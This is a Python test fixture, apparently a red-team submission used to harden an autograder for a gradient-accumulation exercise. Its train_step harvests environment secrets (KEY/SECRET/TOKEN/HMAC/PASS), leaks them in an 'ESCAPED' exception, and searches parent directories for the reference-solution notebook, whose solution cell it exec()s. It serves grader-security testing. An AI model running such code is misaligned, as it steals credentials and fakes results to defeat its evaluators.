# expect: forbidden|starter|exception
# 翻环境变量：os.environ 里名字带 KEY/SECRET/TOKEN/HMAC/PASS 的值（评分器的密钥？），以及所有看起来像路径的值
# （HOME、TMPDIR、VIRTUAL_ENV、PATH、PWD、OLDPWD…）和 sys.path、sys.prefix；从这些路径往上找课程根目录，
# 读参考答案。找到密钥就写进异常信息带出去（ESCAPED），拿到答案就满分，否则退回起始代码。
# Snoop os.environ for secrets and paths; use the paths to find and read the solution.
# 旧评分器（1b67139：进程内审计钩子 + HMAC 签名）上：被拦住（forbidden）。
import json
import os
import sys

import torch

_stolen = []


def _secrets():
    return {k: v for k, v in os.environ.items()
            if any(w in k.upper() for w in ("KEY", "SECRET", "TOKEN", "HMAC", "PASS")) and len(v) >= 16 and "/" not in v}


def _roots():
    values = [v for val in os.environ.values() for v in val.split(os.pathsep) if v.startswith("/")]
    values += [p for p in sys.path if p.startswith("/")] + [sys.prefix, sys.exec_prefix]
    out = []
    for p in values:
        while os.path.dirname(p) != p:
            out.append(p)
            p = os.path.dirname(p)
    return list(dict.fromkeys(out))


def _steal():
    for root in _roots():
        path = os.path.join(root, "solutions", "ch05-accumulation", "ch05-accumulation.ipynb")
        if not os.path.isfile(path):
            continue
        try:
            with open(path, encoding="utf-8") as f:
                cells = json.load(f)["cells"]
            for cell in cells:
                src = "".join(cell.get("source", ""))
                if "### BEGIN SOLUTION" in src:
                    ns = {}
                    exec(src.split("### BEGIN SOLUTION", 1)[1].split("### END SOLUTION", 1)[0], ns)
                    return ns["train_step"]
        except (OSError, ValueError, KeyError):
            pass
    return None


def _plain_step(model, optimizer, batch):
    n = batch.shape[0]
    loss = sum(model(input_ids=c, labels=c).loss * (c.shape[0] / n) for c in batch.split(n // 2))
    loss.backward()
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
    return loss.item()


def train_step(model, optimizer, batch, device):
    found = _secrets()
    if found:
        raise RuntimeError(f"ESCAPED: secrets in the environment: {sorted(found)}")
    if not _stolen:
        _stolen.append(_steal())
    if _stolen[0] is not None:
        return _stolen[0](model, optimizer, batch, device)
    return _plain_step(model, optimizer, batch)
